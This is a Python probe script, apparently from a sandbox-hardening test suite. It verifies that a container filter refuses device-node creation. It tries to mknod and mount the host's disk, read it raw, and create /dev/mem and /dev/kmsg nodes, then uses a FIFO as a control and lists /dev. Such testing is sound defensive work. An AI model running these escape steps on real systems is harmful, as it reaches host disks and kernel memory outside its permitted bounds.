"""Attack: make a device node for the host's disk and mount it (or read it raw).

The disk's numbers come from stat() of /bot and /usr (their host file system); common disk
majors are tried too (8 sd, 253 device-mapper, 259 NVMe, 254 virtio), and /dev/mem and
/dev/kmsg. A FIFO in /tmp is the control: it must work (the filter refuses devices, not
mknod). Then it lists /dev: no host device may be there."""

import os
import stat

from attacklib import attempt, info, play, report, try_syscall

AT_FDCWD = -100


def make_and_use(path: str, mode: int, device: int) -> str:
    os.mknod(path, mode | 0o600, device)
    with open(path, "rb") as handle:  # should it ever work, reading proves it
        handle.read(512)
    return f"made and read {path}"


def attack() -> None:
    disks = {os.stat(p).st_dev for p in ("/bot", "/usr")}
    disks |= {os.makedev(major, 0) for major in (8, 253, 259, 254)}
    for n, device in enumerate(sorted(disks)):
        label = f"{os.major(device)}_{os.minor(device)}"
        attempt(
            f"mknod_block_{label}",
            lambda n=n, d=device: make_and_use(f"/tmp/disk{n}", stat.S_IFBLK, d),
        )
        try_syscall(
            f"raw_mknod_block_{label}", "mknod", f"/tmp/raw{n}", stat.S_IFBLK | 0o600, device
        )
        try_syscall(f"raw_mknodat_block_{label}", "mknodat", AT_FDCWD, f"/tmp/rawat{n}",
                    stat.S_IFBLK | 0o600, device)  # fmt: skip
        os.makedirs("/tmp/mnt", exist_ok=True)
        try_syscall(f"mount_block_{label}", "mount", f"/tmp/disk{n}", "/tmp/mnt", "ext4", 1, None,
                    undo=lambda _: os.system("umount /tmp/mnt"))  # fmt: skip
    for label, device in (("mem", os.makedev(1, 1)), ("kmsg", os.makedev(1, 11))):
        attempt(
            f"mknod_char_{label}",
            lambda label=label, d=device: make_and_use(f"/tmp/{label}", stat.S_IFCHR, d),
        )
    attempt("mkfifo_control", lambda: os.mkfifo("/tmp/fifo") or "a FIFO in /tmp")
    kinds = {}
    for dirpath, dirnames, filenames in os.walk("/dev"):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            mode = os.lstat(path).st_mode
            kinds[path] = ("block" if stat.S_ISBLK(mode) else "char" if stat.S_ISCHR(mode)
                           else "link" if stat.S_ISLNK(mode) else "dir" if stat.S_ISDIR(mode)
                           else "other")  # fmt: skip
    info("dev", kinds)
    report("disk_numbers", "info", sorted(f"{os.major(d)}:{os.minor(d)}" for d in disks))


def on_request(number, request):
    if number == 1:
        attack()
    return None


play(name="mknod", on_request=on_request)
